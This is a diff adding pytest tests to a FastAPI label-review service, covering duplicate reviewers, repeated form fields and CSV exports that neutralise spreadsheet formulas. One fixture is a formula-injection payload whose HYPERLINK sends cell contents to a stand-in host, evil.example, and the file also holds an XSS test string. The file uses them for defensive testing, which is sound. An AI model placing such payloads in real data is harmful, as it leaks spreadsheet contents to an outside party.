@@ -6,12 +6,15 @@ exist. Every answer is a page or a problem that says why, never a 500."""
 
 from __future__ import annotations
 
+import csv
 import gc
 import html
+import io
+import json
 import re
 import tracemalloc
 from typing import Any
-from urllib.parse import parse_qs, urlsplit
+from urllib.parse import parse_qs, urlencode, urlsplit
 
 import pytest
 from fastapi.testclient import TestClient
@@ -19,8 +22,9 @@ from markupsafe import escape
 from sqlalchemy import update
 from sqlalchemy.orm import Session
 
+from framejudge.calibration.inputs import load_human_labels
 from framejudge.service.review.routes import templates
-from framejudge.service.store import ApiKey, create_key, revoke_key, save_calibration
+from framejudge.service.store import ApiKey, CalibrationRun, create_key, revoke_key, save_calibration
 from tests.service.test_review import ITEMS, _turn, calibration, csrf_of, decide, review_app, sign_in
 
 SCRIPT = "<script>alert(1)</script>"
@@ -123,6 +127,20 @@ def test_reviewers_must_be_keys_that_may_review(env):
     revoke_key(env["engine"], key_id(env["second"]))
     put = client.put(f"/v1/calibrate/{env['id']}/reviewers", json={"reviewers": [key_id(env["second"])]}, headers=owner)
     assert put.status_code == 422 and "no valid API key" in put.json()["detail"]
+
+
+def test_a_reviewer_named_twice_is_refused_by_every_door(env):
+    client, owner, second = env["client"], bearer(env["owner"]), key_id(env["second"])
+    said = f"reviewers.1: key id '{second}' is already named (reviewers.0); name each reviewer once"
+    put = client.put(f"/v1/calibrate/{env['id']}/reviewers", json={"reviewers": [second, second]}, headers=owner)
+    assert put.status_code == 422 and put.json()["detail"] == said
+    body = {"labels": env["labels"], "verdicts": env["records"], "replicates": 10, "reviewers": [second, second]}
+    made = client.post("/v1/calibrate", json=body, headers=owner)
+    assert made.status_code == 422 and made.json()["detail"] == said
+    once = client.put(f"/v1/calibrate/{env['id']}/reviewers", json={"reviewers": [second]}, headers=owner)
+    assert once.status_code == 200 and once.json() == {"reviewers": [second]}
+    with Session(env["engine"]) as s:
+        assert s.get(CalibrationRun, env["id"]).reviewers == second
 
 
 def test_the_templates_escape_and_the_pages_say_so(env):
@@ -259,6 +277,8 @@ def test_a_form_whose_turn_is_not_a_number_gets_a_page(env, turn):
     ({"item_id": "disputed", "action": "adopt_annotator"}, "no annotator None"),
     ({"item_id": "", "action": "skip"}, "item_id"),
     ({"item_id": "disputed", "action": "skip", "note": "x" * 20_001}, "note"),
+    ({"item_id": "disputed", "turn": "0", "action": "skip"}, "turn: Input should be a valid integer"),
+    ({"item_id": "disputed", "action": "skip", "flag_rubric": "yes"}, "flag_rubric: Input should be a valid boolean"),
 ])
 def test_api_decisions_that_would_drop_or_misread_something_are_refused(env, body, words):
     got = env["client"].post(f"/v1/calibrate/{env['id']}/decisions", json=body, headers=bearer(env["owner"]))
@@ -271,6 +291,20 @@ def test_a_form_button_naming_a_source_for_the_judge_is_refused(env):
     sign_in(client, env["owner"])
     bad = decide(client, env["id"], "disputed", action="adopt_judge:h1")
     assert bad.status_code == 422 and "source: only adopt_annotator" in bad.text
+
+
+def test_a_form_field_or_query_parameter_given_twice_gets_a_page_not_the_last_value(env):
+    client = env["client"]
+    sign_in(client, env["owner"])
+    csrf = csrf_of(client.get("/review").text)
+    twice = [("csrf", csrf), ("item", "disputed"), ("turn", "0"), ("action", "skip"), ("action", "adopt_judge")]
+    bad = client.post(f"/review/{env['id']}/decide", content=urlencode(twice),
+                      headers={"Content-Type": "application/x-www-form-urlencoded"})
+    assert bad.status_code == 422 and bad.headers["content-type"].startswith("text/html")
+    assert "form.action: given 2 times; give it once" in html.unescape(bad.text)
+    assert client.get(f"/v1/calibrate/{env['id']}/decisions", headers=bearer(env["owner"])).json() == []
+    page = client.get(f"/review/{env['id']}/unit?item=disputed&item=agreed")
+    assert page.status_code == 422 and "query.item: given 2 times" in html.unescape(page.text)
 
 
 def test_a_calibration_stored_before_review_says_so(env):
@@ -296,6 +330,24 @@ def test_exported_labels_are_kept_from_caches(env):
                 client.get(f"/v1/calibrate/{env['id']}/labels", headers=bearer(env["owner"]))):
         assert got.status_code == 200
         assert got.headers["cache-control"] == "no-store" and got.headers["x-content-type-options"] == "nosniff"
+
+
+def test_csv_exports_guard_formula_cells_and_read_them_back_unchanged(env, tmp_path):
+    client, owner = env["client"], bearer(env["owner"])
+    note = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+    made = client.post(f"/v1/calibrate/{env['id']}/decisions", headers=owner,
+                       json={"item_id": "disputed", "action": "adopt_judge", "cause": "humans_wrong", "note": note})
+    assert made.status_code == 201, made.text
+    got = client.get(f"/v1/calibrate/{env['id']}/labels", params={"format": "csv"}, headers=owner)
+    cells = [c for row in csv.reader(io.StringIO(got.text, newline="")) for c in row]
+    assert "'" + note in cells and note not in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]  # none a spreadsheet would run
+    path = tmp_path / "gold.csv"
+    path.write_text(got.text, encoding="utf-8")
+    back = {r.item_id: r for r in load_human_labels(path)}  # as calibrate --human and --gold read it
+    assert back["disputed"].metadata["note"] == note
+    jsonl = client.get(f"/v1/calibrate/{env['id']}/labels", headers=owner).text
+    assert json.loads(next(line for line in jsonl.splitlines() if "disputed" in line))["metadata"]["note"] == note
 
 
 def test_unknown_review_pages_and_methods_get_a_page(env):
